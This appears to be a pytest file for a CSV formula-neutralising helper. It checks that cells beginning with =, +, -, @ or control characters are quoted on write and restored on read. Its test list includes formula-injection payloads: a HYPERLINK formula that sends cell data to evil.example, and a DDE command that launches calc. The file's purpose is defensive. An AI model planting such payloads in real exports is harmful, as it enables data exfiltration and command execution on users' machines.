"""CSV cells: formula starts neutralised for spreadsheets, and the text read back unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from pytest_orbench.core.csv_cells import neutralise, restore

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_start_is_written_after_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Sure, here is how", " =1+1", "'", "''", "'=1+1", "'hello'", "a=b", "é=1",
                                  *HOSTILE])
def test_what_is_read_back_is_what_was_written(cell: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([neutralise(cell), "x"])
    (row,) = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert restore(row[0]) == cell
    assert row[0][:1] not in set("=+-@\t\r\n\x00")  # no cell starts a formula


@pytest.mark.parametrize("cell", ["Sure, here is how", "a=b", " =1", ""])
def test_plain_text_is_left_as_it_is(cell: str) -> None:
    assert neutralise(cell) == cell == restore(cell)
